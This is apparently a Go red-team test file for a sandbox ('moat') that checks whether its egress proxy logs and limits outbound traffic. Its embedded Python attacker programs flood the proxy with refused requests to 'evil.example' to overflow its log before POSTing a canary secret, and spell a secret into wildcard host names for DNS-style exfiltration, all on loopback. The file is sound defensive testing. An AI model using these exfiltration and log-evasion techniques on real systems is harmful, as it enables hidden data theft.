package redteam

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/moat-sandbox/moat/audit"
	"github.com/moat-sandbox/moat/egress"
	"github.com/moat-sandbox/moat/engine"
	"github.com/moat-sandbox/moat/manifest"
	"github.com/moat-sandbox/moat/result"
)

// Cases against the record of egress (issue 17 §4 and §6): what left the
// host must be in the run's result and audit record, whatever the program
// did to hide it, and a wildcard grant must not open a free channel through
// the host's resolver. Judged from the host: a loopback HTTP server that
// records what it received, and a resolver of the case's own that answers
// the test zone and counts the names it was asked (no DNS is ever sent).

func registerEgressLogCases() {
	for _, c := range []Case{
		{
			ID: "net-egress-log-flood", Category: "network", Severity: "medium",
			Threat: "hide an exfiltration from the record: open 10100 refused connections through the proxy (past its 10000-entry log), then POST a canary to the granted host server",
			Why:    "every attempt the proxy lets through is logged with its bytes, whatever came before it; refused attempts past the log are counted by reason and destination in network_summary: the POST the host server received is in the result with its bytes, the summary accounts for every attempt, and the audit record and report agree",
			custom: egressLogFlood,
			alone:  true,
		},
		{
			ID: "net-egress-dns-names", Category: "network", Severity: "medium",
			Threat: "exfiltrate through host names: with allow [*.moat-exfil.test:PORT] and max_bytes_out 1KiB, CONNECT to 72 distinct 50-byte names that spell a secret (3600 bytes, each a DNS query from the host); then 40 new names at once at the default names_per_second",
			Why:    "a new name that only a wildcard allows costs its length of max_bytes_out before the proxy resolves it, and new names are limited to names_per_second: the resolver receives at most the budget in names, the result's network_summary counts exactly what it received, and a burst of new names is cut at the rate (limit-names)",
			custom: egressDNSNames,
		},
	} {
		register(c)
	}
}

// egressLogRun runs argv with network mode allowlist; tune adjusts the
// manifest, res resolves the proxy's names (nil: the host's resolver).
func (r *runner) egressLogRun(ctx context.Context, allow []string, tune func(*manifest.Manifest), res egress.Resolver, argv []string) (*result.Result, error) {
	m := r.defaults()
	m.Network.Mode = "allowlist"
	m.Network.Allow = allow
	m.Network.AllowAddresses = []string{"127.0.0.1"}
	if tune != nil {
		tune(m)
	}
	if err := m.Validate(); err != nil {
		return nil, err
	}
	m.Tier = r.tier // after validation, as netRun
	return r.exec(ctx, &engine.Request{Manifest: m, Argv: argv, Resolver: res})
}

// canarySink is a loopback HTTP server that reads every request body and
// records how many bytes arrived and whether the canary was among them.
type canarySink struct {
	srv    *http.Server
	l      net.Listener
	canary []byte
	bytes  atomic.Int64
	hit    atomic.Bool
}

func newCanarySink(canary string) (*canarySink, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &canarySink{l: l, canary: []byte(canary)}
	s.srv = &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(req.Body, 1<<20))
		s.bytes.Add(int64(len(b)))
		if bytes.Contains(b, s.canary) {
			s.hit.Store(true)
		}
		io.WriteString(w, "ok\n")
	})}
	go s.srv.Serve(l)
	return s, nil
}

func (s *canarySink) port() int { return s.l.Addr().(*net.TCPAddr).Port }
func (s *canarySink) close()    { s.srv.Close() }

// egressFloodCount is how many refused connections the flood opens: past
// the proxy's 10000 logged refusals (egress.DefaultMaxLogEntries).
const egressFloodCount = egress.DefaultMaxLogEntries + 100

func egressLogFlood(ctx context.Context, r *runner) (string, string, int) {
	token := secret()
	sink, err := newCanarySink(token)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer sink.close()
	p := strconv.Itoa(sink.port())
	prog := `
import struct
p, tok, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
# Closed with a reset, so that no connection lingers in TIME_WAIT: ten
# thousand of them fill a user-space network stack's memory (gVisor).
linger = struct.pack("ii", 1, 0)
import collections
tally = collections.Counter()
t0, done = time.time(), 0
while done < n and time.time() - t0 < 90:
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=2)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        s.sendall(b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        r = s.recv(512)
        s.close()
        tally[r[9:12].decode("latin-1") or "closed"] += 1
    except OSError as e:
        tally[type(e).__name__] += 1
    done += 1
print("flood", done, "in %.1fs" % (time.time() - t0), sorted(tally.items()))
body = (" payload " + tok).encode() * 64
req = ("POST http://localhost:%s/exfil HTTP/1.1\r\nHost: localhost:%s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (p, p, len(body))).encode() + body
for i in range(60):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
        s.sendall(req)
        st = s.recv(64).split(b"\r\n")[0].decode("latin-1")
        s.close()
    except OSError as e:
        st = "error %s" % e
    print("POST ->", st)
    if " 200 " in st:
        break
    time.sleep(0.5)
`
	payload := 64 * len(" payload "+token)
	res, err := r.egressLogRun(ctx, []string{"localhost:" + p}, func(m *manifest.Manifest) {
		m.Resources.Timeout = manifest.Duration(150 * time.Second)
		m.Resources.CPUTime = manifest.Duration(150 * time.Second)
	}, nil, egressProg(prog, p, token, strconv.Itoa(egressFloodCount)))
	if err != nil {
		return runErr(err)
	}
	if !sink.hit.Load() {
		return Error, fmt.Sprintf("the host server never received the canary POST, so there was nothing to hide (termination %s %s; %s; program: %s)", res.Termination, clip(res.Error, 200), netCounts(res), clip(strings.ReplaceAll(decode(res.Stdout), "\n", " | "), 600)), 1
	}
	var carried *result.NetworkAttempt
	for i, a := range res.Network {
		if a.Allowed && a.Port == sink.port() && a.BytesOut >= int64(payload) {
			carried = &res.Network[i]
		}
	}
	if carried == nil {
		return Escaped, fmt.Sprintf("the host server received the canary (%d bytes), but the result lists no allowed attempt that carried it: %s", sink.bytes.Load(), netCounts(res)), 1
	}
	ns := res.NetworkSummary
	if ns == nil {
		return Escaped, fmt.Sprintf("the result has no network_summary: the refused attempts past its %d entries are not reported (%s)", len(res.Network), netCounts(res)), 1
	}
	if why := summaryGaps(res); why != "" {
		return Escaped, "the network summary does not account for every attempt: " + why, 1
	}
	if ns.Attempts <= egress.DefaultMaxLogEntries {
		return Error, fmt.Sprintf("the flood did not pass the proxy's %d logged refusals (%d attempts), so the bound was not exercised (%s)", egress.DefaultMaxLogEntries, ns.Attempts, netTail(res)), 1
	}
	if why := auditAgrees(res); why != "" {
		return Escaped, "the audit record disagrees with the result: " + why, 1
	}
	return Contained, fmt.Sprintf("the host server received the canary (%d bytes); the result lists the POST allowed with %d bytes out among %d entries; network_summary: %d attempts, %d allowed, %d bytes out, %d not listed (%s); the audit record and report agree",
		sink.bytes.Load(), carried.BytesOut, len(res.Network), ns.Attempts, ns.Allowed, ns.BytesOut, ns.Omitted, reasonCounts(ns.OmittedReasons)), 1
}

// summaryGaps says where a result's network_summary fails to account for
// its attempts ("" when it does).
func summaryGaps(res *result.Result) string {
	ns := res.NetworkSummary
	allowed, out := 0, int64(0)
	for _, a := range res.Network {
		if a.Allowed {
			allowed++
		}
		out += a.BytesOut
	}
	reasons, dests := 0, ns.OmittedElsewhere
	for _, n := range ns.OmittedReasons {
		reasons += n
	}
	for _, d := range ns.OmittedDestinations {
		dests += d.Count
	}
	switch {
	case ns.Attempts != len(res.Network)+ns.Omitted:
		return fmt.Sprintf("%d attempts, but %d listed and %d omitted", ns.Attempts, len(res.Network), ns.Omitted)
	case ns.Allowed != allowed || ns.Denied != ns.Attempts-ns.Allowed:
		return fmt.Sprintf("%d allowed and %d denied, but %d allowed are listed of %d attempts", ns.Allowed, ns.Denied, allowed, ns.Attempts)
	case ns.BytesOut != out:
		return fmt.Sprintf("%d bytes out, but the listed attempts carried %d", ns.BytesOut, out)
	case reasons != ns.Omitted || dests != ns.Omitted:
		return fmt.Sprintf("%d omitted, but %d by reason and %d by destination", ns.Omitted, reasons, dests)
	}
	return ""
}

// auditAgrees records res in a scratch audit store, as moat serve and moat
// run do, and reads it back: the stored record and the report must show
// the attempt that carried bytes and count every attempt.
func auditAgrees(res *result.Result) string {
	dir, err := os.MkdirTemp("", "moat-redteam-audit-")
	if err != nil {
		return "scratch store: " + err.Error()
	}
	defer os.RemoveAll(dir)
	st, err := audit.Open(filepath.Join(dir, "audit.db"))
	if err != nil {
		return "scratch store: " + err.Error()
	}
	defer st.Close()
	const id = "redteam-log-flood"
	if err := st.Begin(audit.Record{ID: id, Kind: audit.KindRun, Command: res.Command}); err != nil {
		return err.Error()
	}
	if err := st.Finish(id, res, nil); err != nil {
		return err.Error()
	}
	rec, err := st.Get(id)
	if err != nil {
		return err.Error()
	}
	ns := res.NetworkSummary
	var out int64
	allowed := 0
	for _, a := range rec.Network {
		if a.Allowed {
			allowed++
		}
		out += a.BytesOut
	}
	if allowed != ns.Allowed || out != ns.BytesOut {
		return fmt.Sprintf("the record stores %d allowed attempts with %d bytes out; the result says %d with %d", allowed, out, ns.Allowed, ns.BytesOut)
	}
	if rec.NetworkSummary == nil || rec.NetworkOmitted != len(res.Network)+ns.Omitted-len(rec.Network) || rec.NetworkSummary.Attempts != ns.Attempts {
		return fmt.Sprintf("the record stores %d attempts and %d omitted; the result has %d", len(rec.Network), rec.NetworkOmitted, ns.Attempts)
	}
	rep, err := st.Report(audit.Filter{}, audit.Prices{})
	if err != nil {
		return err.Error()
	}
	if rep.NetworkAttempts != ns.Attempts || rep.NetworkDenied != ns.Denied || rep.NetworkBytesOut != ns.BytesOut {
		return fmt.Sprintf("the report counts %d attempts, %d denied, %d bytes out; the result %d, %d, %d",
			rep.NetworkAttempts, rep.NetworkDenied, rep.NetworkBytesOut, ns.Attempts, ns.Denied, ns.BytesOut)
	}
	return ""
}

// netCounts describes a result's network log and summary for evidence.
func netCounts(res *result.Result) string {
	allowed, out := 0, int64(0)
	for _, a := range res.Network {
		if a.Allowed {
			allowed++
		}
		out += a.BytesOut
	}
	s := fmt.Sprintf("entries=%d allowed=%d bytes_out=%d", len(res.Network), allowed, out)
	if ns := res.NetworkSummary; ns != nil {
		s += fmt.Sprintf(", summary attempts=%d allowed=%d bytes_out=%d omitted=%d (%s)", ns.Attempts, ns.Allowed, ns.BytesOut, ns.Omitted, reasonCounts(ns.OmittedReasons))
	}
	return s
}

func reasonCounts(m map[string]int) string {
	var ks []string
	for k, n := range m {
		ks = append(ks, fmt.Sprintf("%s=%d", k, n))
	}
	sort.Strings(ks)
	return strings.Join(ks, " ")
}

// zoneResolver answers every name under its zone with 127.0.0.1, and
// "localhost" too, and counts the distinct names it was asked: what an
// attacker's DNS server for the zone would have received. It never sends a
// query anywhere.
type zoneResolver struct {
	zone  string
	mu    sync.Mutex
	names map[string]bool
}

func (z *zoneResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	z.mu.Lock()
	defer z.mu.Unlock()
	if z.names == nil {
		z.names = map[string]bool{}
	}
	z.names[host] = true
	if strings.HasSuffix(host, z.zone) || host == "localhost" {
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	}
	return nil, errors.New("no such host")
}

// received is the distinct names under the zone and their bytes.
func (z *zoneResolver) received() (names int, n int64) {
	z.mu.Lock()
	defer z.mu.Unlock()
	for h := range z.names {
		if strings.HasSuffix(h, z.zone) {
			names++
			n += int64(len(h))
		}
	}
	return names, n
}

func egressDNSNames(ctx context.Context, r *runner) (string, string, int) {
	const zone = ".moat-exfil.test"
	token := strings.TrimPrefix(secret(), "moat-canary-")
	sink, err := egressListen("127.0.0.1:0", false)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer sink.close()
	p := strconv.Itoa(sink.port())
	// Each name is 50 bytes: two digits, 32 hex characters of the secret,
	// the zone. The program prints only counts: output is a way out too.
	prog := `
import collections
p, tok, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
data = (tok * 200)[: 32 * n]
tally = collections.Counter()
for i in range(n):
    name = "%02d%s.moat-exfil.test" % (i, data[32 * i: 32 * i + 32])
    s, st = ask("CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" % (name, p, name, p), timeout=3)
    s.close()
    tally[st.split(" ")[1] if " " in st else st] += 1
print(sorted(tally.items()))
`
	const budget = 1024
	rule := "*" + zone + ":" + p
	ev := []string{}
	runs := 0

	// Past the byte budget: the name and connection rates are lifted so
	// that the budget alone must stop the names.
	z := &zoneResolver{zone: zone}
	res, err := r.egressLogRun(ctx, []string{rule}, func(m *manifest.Manifest) {
		m.Network.MaxBytesOut = budget
		m.Network.NamesPerSecond = 1000
		m.Network.ConnectionsPerSecond = 1000
	}, z, egressProg(prog, p, token, "72"))
	runs++
	if err != nil {
		return runErr(err)
	}
	names, nameBytes := z.received()
	if nameBytes+sink.bytes.Load() > budget {
		return Escaped, fmt.Sprintf("with max_bytes_out %d the host resolved %d names of the program's choosing (%d bytes) and the destination received %d bytes: names leave the host uncounted (%s)",
			budget, names, nameBytes, sink.bytes.Load(), egressReasons(res)), runs
	}
	if names == 0 {
		return Error, fmt.Sprintf("no name reached the resolver: the wildcard grant did not work, so nothing was tested (%s; %s)", egressReasons(res), netTail(res)), runs
	}
	ns := res.NetworkSummary
	if ns == nil || ns.LookupBytes != nameBytes || ns.Lookups != names {
		return Escaped, fmt.Sprintf("the resolver received %d names (%d bytes), but the result's network_summary says %+v", names, nameBytes, ns), runs
	}
	ev = append(ev, fmt.Sprintf("budget %d: the resolver received %d of 72 names (%d bytes), the summary counts the same (%s)", budget, names, nameBytes, egressReasons(res)))

	// A burst of new names at the default name rate (the connection
	// rate lifted, so that it is the one to stop them).
	z = &zoneResolver{zone: zone}
	start := time.Now()
	res, err = r.egressLogRun(ctx, []string{rule}, func(m *manifest.Manifest) {
		m.Network.ConnectionsPerSecond = 1000
	}, z, egressProg(prog, p, token, "40"))
	runs++
	if err != nil {
		return runErr(err)
	}
	names, _ = z.received()
	rate := manifest.Default().Network.NamesPerSecond
	// Burst plus refill over the run's whole life (an upper bound on the
	// time the program had).
	most := rate + int(time.Since(start).Seconds()*float64(rate)) + 1
	if names > most {
		return Escaped, fmt.Sprintf("at names_per_second %d the resolver received %d new names in %.1fs (at most %d expected): %s", rate, names, time.Since(start).Seconds(), most, egressReasons(res)), runs
	}
	limited := 0
	for _, a := range res.Network {
		if a.Reason == egress.ReasonLimitNames {
			limited++
		}
	}
	if names < 40 && limited == 0 {
		return Error, fmt.Sprintf("%d of 40 names were resolved, but no attempt says limit-names (%s)", names, egressReasons(res)), runs
	}
	ev = append(ev, fmt.Sprintf("names_per_second %d: %d of 40 new names resolved in %.1fs, %d refused limit-names", rate, names, time.Since(start).Seconds(), limited))
	return Contained, strings.Join(ev, "; "), runs
}
